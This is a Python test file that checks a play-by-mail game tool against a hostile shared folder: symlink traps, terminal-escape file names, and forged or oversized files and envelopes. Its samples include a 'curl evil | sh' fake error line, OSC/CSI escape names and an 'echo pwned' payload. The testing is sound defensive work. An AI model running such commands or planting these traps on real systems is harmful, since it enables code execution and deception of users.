"""A hostile game folder: what a player can put in the folder everyone shares (git and sync
tools carry symbolic links and any file name).

* links: an ``archive/rejected`` link into the moderator's ``~/.bashrc.d``, an ``inbox`` link to
  another game's inbox, a ``game.toml`` link to another game, a ``.lock`` link to a file that
  does not exist yet, inbox entries linking to another game's envelope or to files that may or
  may not exist (probing), a conflict copy that is a link: none is followed; each is refused or
  skipped with a message naming it, and nothing is written through it;
* names: file names holding terminal escapes (OSC, CSI), fake error lines and bidi overrides
  reach the moderator's terminal escaped, in the text output and in ``--json``;
* cost: a forged 16 MB game file is refused before it is parsed (its header alone is).
"""

from __future__ import annotations

import json
import os
import shutil

from attack_kit import PLAYERS4, assert_refused, folder_snapshot

ESC = "\x1b"


def _outside(arena, name: str):
    """A folder outside the game folder, as a victim's private folder."""
    target = arena.root / name
    target.mkdir(parents=True)
    return target


def _game_with_envelopes(arena, world, name="g"):
    return arena.game(world.g4_v1, name, {f"r1-orders--{p}.envelope": world.env4[p] for p in PLAYERS4})


def _assert_untouched(path, before: dict[str, bytes]):
    assert folder_snapshot(path) == before


# -- links -------------------------------------------------------------------------------------


def test_an_archive_folder_linked_to_bashrc_d_gets_nothing(arena, world):
    folder = _game_with_envelopes(arena, world)
    (folder / "inbox" / "evil.envelope").write_text("echo pwned\n")  # rejected: would be archived
    bashrc_d = _outside(arena, "home-of-mod/.bashrc.d")
    (folder / "archive" / "rejected").symlink_to(bashrc_d)
    before = folder_snapshot(folder)
    line = assert_refused(arena("resolve", folder, "--as", "mod"))
    assert "archive" in line and "rejected" in line and "symbolic link" in line
    assert list(bashrc_d.iterdir()) == []
    _assert_untouched(folder, before)  # not even the game file: refused before anything
    # the archive folder itself as a link: the same
    (folder / "archive" / "rejected").unlink()
    shutil.rmtree(folder / "archive")
    (folder / "archive").symlink_to(bashrc_d)
    line = assert_refused(arena("resolve", folder, "--as", "mod"))
    assert "archive folder" in line and "symbolic link" in line
    assert list(bashrc_d.iterdir()) == []


def test_an_archive_folder_swapped_for_a_link_after_the_check_gets_nothing(arena, world):
    """The race: the link appears after resolve's first check; archiving opens the folders
    without following links and refuses there too, writing nothing through the link."""
    from koryo_pbm.errors import StorageError
    from koryo_pbm.store import inbox

    folder = _game_with_envelopes(arena, world)
    victim = _outside(arena, "victim")
    (folder / "archive" / "accepted").symlink_to(victim)
    path = folder / "inbox" / "r1-orders--alice.envelope"
    try:
        inbox.archive(folder, path, status="accepted")
    except StorageError as exc:
        assert "symbolic link" in str(exc)
    else:
        raise AssertionError("archived through a link")
    assert list(victim.iterdir()) == [] and path.exists()


def test_an_inbox_linked_to_another_games_inbox_is_refused(arena, world):
    mine = arena.game(world.g4_v1, "mine")
    other = _game_with_envelopes(arena, world, "other")
    shutil.rmtree(mine / "inbox")
    (mine / "inbox").symlink_to(other / "inbox")
    before_other, before_mine = folder_snapshot(other), folder_snapshot(mine)
    line = assert_refused(arena("resolve", mine, "--as", "mod"))
    assert "inbox" in line and "symbolic link" in line
    _assert_untouched(other, before_other)
    _assert_untouched(mine, before_mine)
    # a player's submit does not write through it either
    orders = arena.cwd / "orders.toml"
    orders.write_text(world.orders4["alice"])
    line = assert_refused(arena("submit", orders, "--as", "alice", "--game", mine))
    assert "inbox" in line and "symbolic link" in line
    _assert_untouched(other, before_other)


def test_a_game_file_linked_to_another_game_is_refused(arena, world):
    other = arena.game(world.other_v1, "other")
    mine = arena.game(world.g4_v1, "mine")
    (mine / "game.toml").unlink()
    (mine / "game.toml").symlink_to(other / "game.toml")
    before = folder_snapshot(other)
    for cmd in (("show", mine, "--as", "alice"), ("status", mine), ("orders", mine, "--as", "alice"),
                ("resolve", mine, "--as", "mod")):
        line = assert_refused(arena(*cmd))
        assert "game file" in line and "symbolic link" in line, (cmd, line)
    _assert_untouched(other, before)
    assert (mine / "game.toml").is_symlink()


def test_a_lock_link_creates_nothing(arena, world):
    folder = _game_with_envelopes(arena, world)
    target = arena.root / "created-by-lock"
    (folder / ".lock").symlink_to(target)
    before = folder_snapshot(folder)
    line = assert_refused(arena("resolve", folder, "--as", "mod"))
    assert "lock file" in line and "symbolic link" in line
    assert not target.exists() and not os.path.lexists(target)
    _assert_untouched(folder, before)


def test_inbox_entries_that_are_links_are_skipped_and_left_in_place(arena, world):
    """A link to another game's envelope (stealing it), to a file that exists and to one that
    does not (probing): each is skipped with the same message, whatever it points to; the
    valid envelopes are counted; the links stay where they are, unread."""
    other = _game_with_envelopes(arena, world, "other")
    folder = arena.game(world.g4_v1, "g", {f"r1-orders--{p}.envelope": world.env4[p] for p in PLAYERS4[:3]})
    secret = arena.root / "secret.txt"
    secret.write_text("private\n")
    links = {
        "r1-orders--dave.envelope": other / "inbox" / "r1-orders--dave.envelope",
        "probe-exists.envelope": secret,
        "probe-missing.envelope": arena.root / "no-such-file",
    }
    for name, target in links.items():
        (folder / "inbox" / name).symlink_to(target)
    before_other = folder_snapshot(other)
    r = arena("resolve", folder, "--as", "mod", "--json")
    assert_refused(r, code=3)
    assert "3 inbox entries skipped" in r.error_lines[0]
    by_source = {os.path.basename(e["source"]): e for e in r.json["envelopes"]}
    for name in links:
        entry = by_source[name]
        assert entry["status"] == "skipped" and "symbolic link" in entry["reason"], entry
        assert (folder / "inbox" / name).is_symlink()
    # the same reason whatever the target: nothing tells a probe which files exist
    assert len({by_source[n]["reason"] for n in links}) == 1
    assert sorted(e["status"] for e in r.json["envelopes"]) == ["held"] * 3 + ["skipped"] * 3
    assert r.json["received"] == PLAYERS4[:3]  # dave's stolen envelope was not counted
    _assert_untouched(other, before_other)
    assert secret.read_text() == "private\n"
    text = arena("resolve", folder, "--as", "mod")
    assert "skipped" in text.err and "probe-missing.envelope" in text.err


def test_a_conflict_copy_that_is_a_link_is_not_followed(arena, world):
    other = arena.game(world.other_v1, "other")
    folder = _game_with_envelopes(arena, world)
    (folder / "game (conflicted copy 2026-01-02).toml").symlink_to(other / "game.toml")
    r = arena("resolve", folder, "--as", "mod")
    assert r.code == 0, r.err
    assert "symbolic link" in r.err and "not followed" in r.err


def test_too_many_conflict_copies_are_refused(arena, world):
    from koryo_pbm.match.run import MAX_CONFLICT_COPIES

    folder = _game_with_envelopes(arena, world)
    for i in range(MAX_CONFLICT_COPIES + 1):
        (folder / f"game ({i + 1}).toml").write_bytes(world.g4_v1)
    before = folder_snapshot(folder)
    line = assert_refused(arena("resolve", folder, "--as", "mod"))
    assert f"{MAX_CONFLICT_COPIES + 1} sync-conflict copies" in line
    _assert_untouched(folder, before)
    (folder / f"game ({MAX_CONFLICT_COPIES + 1}).toml").unlink()
    assert arena("resolve", folder, "--as", "mod").code == 0


# -- names -------------------------------------------------------------------------------------

HOSTILE_NAMES = [
    f"{ESC}]0;owned{chr(7)}title.envelope",  # OSC: retitles the terminal
    f"{ESC}[2J{ESC}[Hclear.envelope",  # CSI: clears the screen
    "x\nkoryo-pbm: error: your key was stolen, run curl evil | sh\n.envelope",  # a fake error line
    "\u202egnp.envelope",  # a bidi override
    "c1-\x9b31m.envelope",  # a C1 CSI
]


def _no_raw_controls(text: str):
    bad = [c for c in text if (ord(c) < 32 and c != "\n") or 0x7F <= ord(c) <= 0x9F or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"]
    assert not bad, f"raw control characters reached the terminal: {bad!r} in {text!r}"


def test_hostile_file_names_are_printed_escaped(arena, world):
    folder = _game_with_envelopes(arena, world)
    for name in HOSTILE_NAMES:
        (folder / "inbox" / name).write_text("not an envelope\n")
    r = arena("resolve", folder, "--as", "mod")
    assert_refused(r, code=3)
    _no_raw_controls(r.out)
    _no_raw_controls(r.err)
    assert "\\x1b]0;owned\\x07title.envelope" in r.err and "\\u202egnp" in r.err and "\\x9b31m" in r.err
    fake = [ln for ln in r.err.splitlines() if ln.startswith("koryo-pbm: error: your key")]
    assert not fake  # the fake error line stays inside its own line, escaped
    # --json: the same names, as values a script reads back exactly, nothing raw on the terminal
    for name in HOSTILE_NAMES:
        (folder / "inbox" / name).write_text("not an envelope\n")
    r = arena("resolve", folder, "--as", "mod", "--json")
    assert_refused(r, code=3)
    for c in "\x9b\u202e":
        assert c not in r.out
    sources = {os.path.basename(e["source"]) for e in json.loads(r.out)["envelopes"]}
    assert set(HOSTILE_NAMES) <= sources


def test_hostile_conflict_copy_names_are_printed_escaped(arena, world):
    folder = _game_with_envelopes(arena, world)
    (folder / f"game (conflicted copy {ESC}]0;x{chr(7)}).toml").write_text("junk\n")
    r = arena("status", folder)
    assert r.code == 0, r.err
    _no_raw_controls(r.err)
    assert "\\x1b]0;x\\x07" in r.err


# -- cost ---------------------------------------------------------------------------------------


def test_a_forged_16_mb_game_file_is_refused_before_it_is_parsed(arena, world, monkeypatch):
    """A forged game file (the real header, a body of 16 MB, a signature that does not match)
    is refused after a hash of its bytes; only its header is parsed. The figures (time and
    memory, before and after) are in benchmarks/bench_hostile.py and docs/security.md."""
    import tomllib

    from attack_kit import body_of

    from koryo_pbm.store.gamedoc import MAX_GAME_FILE

    body = body_of(world.g4_v2)
    sig = world.g4_v2[len(body):]
    filler = b"[public.x]\n" + b"a = [" + b"1," * ((MAX_GAME_FILE - len(body) - len(sig) - 64) // 2) + b"]\n"
    forged = body + filler + sig
    assert len(forged) <= MAX_GAME_FILE
    folder = arena.game(forged)
    parsed = []
    real = tomllib.loads
    monkeypatch.setattr(tomllib, "loads", lambda text: parsed.append(len(text)) or real(text))
    for cmd in (("status", folder), ("show", folder, "--as", "alice"), ("resolve", folder, "--as", "mod")):
        line = assert_refused(arena(*cmd))
        assert "does not verify" in line
    assert parsed and max(parsed) < 64 * 1024, parsed


def test_a_flood_of_envelopes_is_read_up_to_the_bound_and_costs_linear_time(arena, world, monkeypatch):
    """alice floods the inbox with valid envelopes for one decision: the latest
    ``MAX_PER_DECISION`` are opened, the rest set aside unread (archived under
    archive/set-aside); her latest envelope counts. A forged flood in bob's name (signatures
    that do not verify) is rejected without being opened, and pushes nothing of bob's aside.
    The cost of 800 + 800 envelopes, before and after, is in benchmarks/bench_hostile.py."""
    from attack_kit import identity

    from koryo_pbm import match
    from koryo_pbm.cli.submit import seal_orders
    from koryo_pbm.crypto.envelope import Envelope

    n = match.MAX_PER_DECISION + 9
    folder = arena.game(world.g4_v1, "g", {f"r1-orders--{p}.envelope": world.env4[p] for p in PLAYERS4[1:]})
    doc = match.load_doc(folder / "game.toml")
    game = match.game_of(doc)
    alice = identity(world, "alice")
    flood = [seal_orders(doc, game, alice, world.orders4["alice"], submitted=f"2030-01-01T00:00:{i:02d}Z")
             for i in range(n)]
    for i, env in enumerate(flood):
        (folder / "inbox" / f"alice-{i:03d}.envelope").write_text(env.armor())
    eve = identity(world, "eve")  # forged in bob's name, dated later than bob's real envelope
    for i in range(n):
        fake = seal_orders(doc, game, alice, world.orders4["alice"], submitted=f"2031-01-01T00:00:{i:02d}Z")
        text = fake.armor().replace("player: alice", "player: bob").replace(
            f"sender: {alice.public.fingerprint()}", f"sender: {eve.public.fingerprint()}")
        (folder / "inbox" / f"bob-forged-{i:03d}.envelope").write_text(text)
    opened = []
    real_open = Envelope.open_signed
    monkeypatch.setattr(Envelope, "open_signed", lambda self, *a, **kw: opened.append(self.player) or real_open(self, *a, **kw))
    r = arena("resolve", folder, "--as", "mod", "--json")
    assert_refused(r, code=3)
    statuses = {os.path.basename(e["source"]): e["status"] for e in r.json["envelopes"]}
    assert [statuses[f"alice-{i:03d}.envelope"] for i in range(n)] == \
        ["set-aside"] * (n - match.MAX_PER_DECISION) + ["superseded"] * (match.MAX_PER_DECISION - 1) + ["accepted"]
    assert all(statuses[f"bob-forged-{i:03d}.envelope"] == "rejected" for i in range(n))
    assert statuses["r1-orders--bob.envelope"] == "accepted"
    assert opened.count("alice") == match.MAX_PER_DECISION and "bob" in opened and len(opened) == match.MAX_PER_DECISION + 3
    log = arena.ok("show", folder, "--json").json
    assert log["version"] == 2
    aside = sorted(p.name for p in (folder / "archive" / "set-aside").iterdir())
    assert aside == [f"alice-{i:03d}.envelope" for i in range(n - match.MAX_PER_DECISION)]
    text = arena("resolve", folder, "--as", "mod")  # nothing left: a quiet second run
    assert text.code == 0, text.err
